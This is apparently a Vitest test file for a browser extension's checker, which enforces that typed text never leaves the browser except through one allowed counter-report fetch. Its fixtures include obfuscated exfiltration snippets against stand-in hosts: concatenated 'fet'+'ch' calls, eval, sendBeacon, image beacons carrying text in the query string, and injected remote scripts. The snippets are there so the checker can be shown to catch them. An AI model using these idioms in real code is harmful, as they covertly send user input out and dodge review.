/**
 * The privacy boundary: nothing a user types leaves the browser, and the only
 * network request is the counter report (one fetch call in
 * entrypoints/background/counters.ts). scripts/network-boundary.ts parses the
 * sources with the TypeScript compiler; this runs it on the repository and
 * proves on small snippets that it catches what it claims to (and does not
 * flag comments, types or ordinary names).
 */
import { beforeAll, describe, expect, it } from 'vitest';
import {
  ALLOWED_FETCH_FILE,
  checkRepository,
  checkSources,
  formatFinding,
  type BoundaryResult,
  type ViolationKind,
} from '../../scripts/network-boundary';

describe('the repository', () => {
  let result: BoundaryResult;
  beforeAll(() => {
    result = checkRepository();
  }, 60_000);

  it('makes no network request outside the counter report', () => {
    expect(result.violations.map(formatFinding), 'only the counter report in counters.ts may use the network').toEqual([]);
  });

  it('sees the one allowed fetch: the counter report in counters.ts (so the check really read the sources)', () => {
    expect(result.files).toBeGreaterThan(50);
    expect(result.allowed.map((f) => f.file)).toEqual([ALLOWED_FETCH_FILE]);
    expect(result.allowed[0]!.code).toMatch(/^fetch\(url,/);
  });
});

/** Snippets the checker must flag, with the kind it must report. */
const CAUGHT: [name: string, code: string, kind: ViolationKind][] = [
  ['a computed name', "globalThis['fet' + 'ch']('https://example.com', { method: 'POST', body: text });", 'network-string'],
  ['a template-literal name', 'window[`fet${"ch"}`](url);', 'network-string'],
  ['a plain string name', "const name = 'fetch'; (globalThis as any)[name](url);", 'network-string'],
  ['a member of self', "self.fetch('/x');", 'network-api'],
  ['a member of window', 'window.fetch(url);', 'network-api'],
  ['an alias', 'const f = fetch; f(url);', 'network-api'],
  ['destructuring', 'const { fetch: send } = globalThis; send(url);', 'network-api'],
  ['shorthand destructuring', 'const { fetch } = window; fetch(url);', 'network-api'],
  ['passing it on', 'queueMicrotask(() => run(fetch));', 'network-api'],
  ['an imported fetch', "import { fetch } from 'undici'; void fetch;", 'network-api'],
  ['XMLHttpRequest', "const xhr = new XMLHttpRequest(); xhr.open('POST', url); xhr.send(text);", 'network-api'],
  ['sendBeacon', "navigator.sendBeacon('https://example.com/log', text);", 'network-api'],
  ['sendBeacon by string', "(navigator as any)['sendBeacon'](url, text);", 'network-string'],
  ['WebSocket', "new WebSocket('wss://example.com').send(text);", 'network-api'],
  ['EventSource', "new EventSource('https://example.com/stream');", 'network-api'],
  ['importScripts', "importScripts('https://cdn.example.com/x.js');", 'network-api'],
  ['WebRTC', 'new RTCPeerConnection({ iceServers: [] });', 'network-api'],
  ['Reflect.get on the global object', 'Reflect.get(globalThis, key)(url);', 'dynamic-global'],
  ['a computed key on window', 'window[a + b](url);', 'dynamic-global'],
  ['a computed key built at run time', "globalThis[['fet', 'ch'].join('')](url);", 'dynamic-global'],
  ['eval', "eval('fe' + 'tch(url)');", 'code-eval'],
  ['new Function', "new Function('u', 'return fe' + 'tch(u)')(url);", 'code-eval'],
  ['setTimeout with a string', "setTimeout('run()', 10);", 'code-eval'],
  ['a computed dynamic import', 'await import(moduleUrl);', 'dynamic-import'],
  ['a remote dynamic import', "await import('https://cdn.example.com/x.js');", 'dynamic-import'],
  ['a remote static import', "import x from 'https://cdn.example.com/x.js'; void x;", 'dynamic-import'],
  ['a remote worker', "new Worker('https://example.com/w.js');", 'worker'],
  ['a computed worker', 'new Worker(scriptUrl);', 'worker'],
  ['window.open to a site', "window.open('https://example.com/?q=' + encodeURIComponent(text));", 'navigation'],
  ['location.href', "location.href = 'https://example.com/?q=' + text;", 'navigation'],
  ['window.location', 'window.location = target;', 'navigation'],
  ['location.assign', 'location.assign(url);', 'navigation'],
  ['an image beacon', "new Image().src = 'https://example.com/p.gif?q=' + text;", 'remote-resource'],
  ['a script element', "document.head.append(Object.assign(document.createElement('script'), { src: url }));", 'remote-resource'],
  ['a src set to a remote URL', "el.src = 'https://example.com/x.js';", 'remote-resource'],
];

const CAUGHT_TSX: [name: string, code: string, kind: ViolationKind][] = [
  ['a remote <img>', "export const P = (p: { q: string }) => <img src={'https://example.com/p.gif?q=' + p.q} />;", 'remote-resource'],
  ['a remote <iframe>', 'export const F = () => <iframe src="https://example.com" />;', 'remote-resource'],
  ['a computed <script>', 'export const S = (p: { u: string }) => <script src={p.u}></script>;', 'remote-resource'],
];

const CAUGHT_HTML: [name: string, code: string][] = [
  ['a CDN script', '<!doctype html><html><head><script src="https://cdn.example.com/react.js"></script></head></html>'],
  ['a protocol-relative stylesheet', "<html><head><link rel='stylesheet' href='//fonts.example.com/css'></head></html>"],
  ['a meta refresh', '<meta http-equiv="refresh" content="0; url=https://example.com/">'],
];

/** Snippets that must pass: comments, types and ordinary names are not network use. */
const CLEAN: [name: string, code: string][] = [
  ['comments', "// fetch('https://example.com') was removed\n/** Never uses XMLHttpRequest or sendBeacon. */\nexport const x = 1;"],
  ['types', 'let f: typeof fetch | undefined; type R = RequestInit; interface Api { fetch(url: string): Promise<Response>; ws: WebSocket }\nexport { f };'],
  ['type-only imports', "import type { fetch as F } from 'undici'; export type G = F;"],
  ['names that only contain the word', "const prefetch = 1; const fetchPolicy = () => 'Failed to fetch'; export { prefetch, fetchPolicy };"],
  ['reading the location', 'const url = new URL(location.href); const id = location.hash.slice(1); export { url, id };'],
  ['window listeners and globals', "window.addEventListener('focusin', () => {}, true); guard.install(window); requestAnimationFrame(() => {});"],
  ['a constant key on the global object', "const w = globalThis['structuredClone']; export { w };"],
  ['local navigation', "window.open('./options.html#policy'); location.hash = '#stats';"],
  ['a download link', "const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'])); a.download = 'x.csv';"],
  ['a style element', "const style = document.createElement('style'); style.textContent = '::highlight(pv) { color: red }';"],
  ['a local worker', "new Worker(new URL('./worker.ts', import.meta.url), { type: 'module' });"],
  ['a local dynamic import', "const m = await import('./lazy'); export { m };"],
  ['a method called eval', 'const prefilter = { eval: (x: number) => x > 0 }; prefilter.eval(1);'],
  ['setTimeout with a function', 'setTimeout(() => {}, 30);'],
];

const CLEAN_TSX: [name: string, code: string][] = [
  ['a link to a guideline', 'export const L = (p: { href: string }) => <a href={p.href} target="_blank" rel="noopener noreferrer">Digg</a>;'],
  ['an inline style', 'export const I = (p: { top: number }) => <div className="pv-indicator" style={{ top: `${p.top}px` }} />;'],
  ['an inline SVG chart', 'export const C = () => <svg viewBox="0 0 10 10"><rect x={0} y={0} width={5} height={5} /></svg>;'],
];

const CLEAN_HTML =
  '<!doctype html><html><head><meta charset="UTF-8" /><title>x</title></head><body><div id="root"></div><script type="module" src="./main.tsx"></script></body></html>';

describe('the checker (self-test)', () => {
  let result: BoundaryResult;
  const files: Record<string, string> = {};
  CAUGHT.forEach(([, code], i) => (files[`caught/${i}.ts`] = code));
  CAUGHT_TSX.forEach(([, code], i) => (files[`caught/${i}.tsx`] = code));
  CAUGHT_HTML.forEach(([, code], i) => (files[`caught/${i}.html`] = code));
  CLEAN.forEach(([, code], i) => (files[`clean/${i}.ts`] = code));
  CLEAN_TSX.forEach(([, code], i) => (files[`clean/${i}.tsx`] = code));
  files['clean/page.html'] = CLEAN_HTML;
  // The allowed call site: one fetch passes there, a second one is reported with its line.
  files['allowed/one/counters.ts'] = "export async function report(url: string, body: string) {\n  await fetch(url, { method: 'POST', body });\n}";
  files['allowed/two/counters.ts'] = "export async function report(url: string) {\n  await fetch(url);\n  await fetch(url + '/again');\n}";

  beforeAll(() => {
    result = checkSources(files, { allowedFetchFile: 'allowed/one/counters.ts' });
  }, 60_000);
  const found = (file: string) => result.violations.filter((v) => v.file === file);

  it.each(CAUGHT.map(([name, code, kind], i) => ({ name, code, kind, file: `caught/${i}.ts` })))('catches $name', ({ file, kind, code }) => {
    expect(found(file).map((v) => v.kind), code).toContain(kind);
  });

  it.each(CAUGHT_TSX.map(([name, code, kind], i) => ({ name, code, kind, file: `caught/${i}.tsx` })))('catches $name (TSX)', ({ file, kind, code }) => {
    expect(found(file).map((v) => v.kind), code).toContain(kind);
  });

  it.each(CAUGHT_HTML.map(([name, code], i) => ({ name, code, file: `caught/${i}.html` })))('catches $name in HTML', ({ file, code }) => {
    expect(found(file).map((v) => v.kind), code).toContain('remote-html');
  });

  it.each([...CLEAN, ...CLEAN_TSX].map(([name], i) => ({ name, file: i < CLEAN.length ? `clean/${i}.ts` : `clean/${i - CLEAN.length}.tsx` })))(
    'does not flag $name',
    ({ file }) => {
      expect(found(file).map(formatFinding)).toEqual([]);
    },
  );

  it('does not flag a page that loads only its own scripts', () => {
    expect(found('clean/page.html')).toEqual([]);
  });

  it('reports file, line and column', () => {
    const [v] = found('caught/11.ts'); // navigator.sendBeacon(…)
    expect(v).toMatchObject({ file: 'caught/11.ts', line: 1, column: 11, kind: 'network-api' });
  });

  it('allows exactly one fetch call in the allowed file, and reports every fetch when there are more', () => {
    expect(result.allowed.map((f) => `${f.file}:${f.line}`)).toEqual(['allowed/one/counters.ts:2']);
    expect(found('allowed/one/counters.ts')).toEqual([]);
    expect(found('allowed/two/counters.ts').map((v) => `${v.line}:${v.kind}`)).toEqual(['2:network-api', '3:network-api']);
  });
});
